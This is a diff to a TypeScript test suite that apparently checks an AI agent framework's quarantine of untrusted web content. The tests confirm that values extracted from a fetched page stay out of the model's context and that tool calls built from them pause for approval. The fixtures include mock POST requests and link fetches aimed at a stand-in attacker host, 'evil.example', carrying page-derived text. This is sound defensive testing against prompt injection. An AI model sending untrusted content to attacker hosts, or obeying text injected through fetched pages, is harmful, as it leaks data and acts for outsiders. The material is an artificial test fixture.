@@ -233,7 +233,7 @@ describe('narrow reading', () => {
       (request) => {
         if ('response_format' in request) {
           readers.push(request)
-          return { text: JSON.stringify({ count: 7, words: 'POST it' }) }
+          return { text: JSON.stringify({ count: 7, words: 'POST it', link: evil }) }
         }
         heard.push(JSON.stringify(request.messages))
         const task = request.messages.findLastIndex(({ role }) => role === 'user')
@@ -243,7 +243,9 @@ describe('narrow reading', () => {
         const question = 'How many are there?'
         const read: Call = { name: 'isola__read_values', input: { handle, question, fields } }
         const next = [read, ...then][answers.length - 1]
-        return next ? { calls: [next] } : { text: String(answers[1]!.content) }
+        const [place = ''] = /\{\{[\w.-]+\}\}/.exec(String(answers[1]?.content)) ?? []
+        const filled = JSON.parse(JSON.stringify(next ?? {}).replace('PLACE', place)) as Call
+        return next ? { calls: [filled] } : { text: String(answers[1]!.content) }
       },
       ({ url }) => (asked.push(url), page(url)),
     )
@@ -271,12 +273,42 @@ describe('narrow reading', () => {
     expect(called.filter(({ data }) => data.data.call !== undefined)).toHaveLength(1)
   })
 
-  it('T11: a free string out of it is the stranger’s: the same effect asks first', async () => {
+  const fields = { count: { type: 'integer' }, words: { type: 'string' } }
+  const says = { name: 'http__request', input: { method: 'POST', url: evil, body: 'Says: PLACE' } }
+
+  it('T11: words out of it are unseen, and the stranger’s: a call with them asks first, and shows them', async () => {
     await setPolicy({ narrow_reading: ['*'] })
-    reads({ count: { type: 'integer' }, words: { type: 'string' } }, [post])
+    const { heard } = reads(fields, [says])
     const view = await start()
     expect([view.state, asked]).toEqual(['parked', [news]])
     expect(view.pauses[0].about).toMatch(/stranger.*news\.example/)
+    expect(view.pauses[0].input.body).toBe('Says: POST it')
+    expect(heard.join()).not.toContain('POST it')
+  })
+
+  it('T11: in a parameter that the operator named they ask nobody; what comes back is kept aside', async () => {
+    await setPolicy({ narrow_reading: ['*'], unseen_words: ['http__request body'] })
+    const { heard } = reads(fields, [says])
+    const view = await start()
+    expect([view.state, asked]).toEqual(['completed', [news, evil]])
+    expect(heard.join()).not.toContain('POST it')
+  })
+
+  it('T11: a link out of it is opened where its host is named and the operator lets links through, and no other', async () => {
+    const linked = { link: { type: 'string', format: 'uri' } }
+    const open = { name: 'http__get', input: { url: 'PLACE' } }
+    const hosts = { hosts: ['*', 'evil.example'] }
+    for (const [policy, state] of [
+      [{ unseen_links: ['http__get url'], network: hosts }, 'completed'],
+      [{ unseen_links: ['http__get url'] }, 'parked'],
+      [{ network: hosts }, 'completed'],
+    ] as const) {
+      await setPolicy({ narrow_reading: ['*'], ...policy })
+      const { heard } = reads(linked, [open])
+      expect((await start()).state).toBe(state)
+      expect(asked.length).toBe(state === 'parked' ? 1 : 2)
+      expect(heard.join()).not.toContain('evil.example')
+    }
   })
 
   it('is off where the policy does not say so', async () => {
